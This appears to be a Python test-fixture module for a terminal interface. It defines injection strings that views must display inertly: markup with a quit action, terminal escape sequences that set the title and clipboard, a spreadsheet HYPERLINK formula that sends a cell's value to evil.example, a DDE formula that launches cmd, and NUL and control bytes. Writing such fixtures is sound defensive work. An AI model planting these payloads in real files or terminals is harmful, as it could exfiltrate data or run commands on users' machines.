"""The hostile strings every view must show as plain text: markup that would
crash the console or make a clickable action, terminal escapes that would
set the title or the clipboard, spreadsheet formulas, SQL wildcards, NUL,
and sheer length."""
from __future__ import annotations

CLOSING_TAG = "[/x]"
CLICKABLE = "[bold red]RED[/] [@click=app.quit]ClickMe[/]"
TITLE = "\x1b]2;PWND\x07"
CLIPBOARD = "\x1b]52;c;SGk=\x07"
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
PERCENT = "%"
NUL = "a\x00b"
CSI = "\x9b31mred"
LONG = "W" * 5000

ATTACKS = {
    "closing_tag": CLOSING_TAG,
    "clickable": CLICKABLE,
    "title": TITLE,
    "clipboard": CLIPBOARD,
    "hyperlink": HYPERLINK,
    "sum": SUM,
    "percent": PERCENT,
    "nul": NUL,
    "csi": CSI,
    "long": LONG,
}
ALL = " ".join(v for k, v in ATTACKS.items() if k != "long")

# what must never reach a terminal: ESC, BEL, NUL, the 8-bit CSI/OSC
RAW_CONTROLS = ("\x1b", "\x07", "\x00", "\x9b", "\x9d")
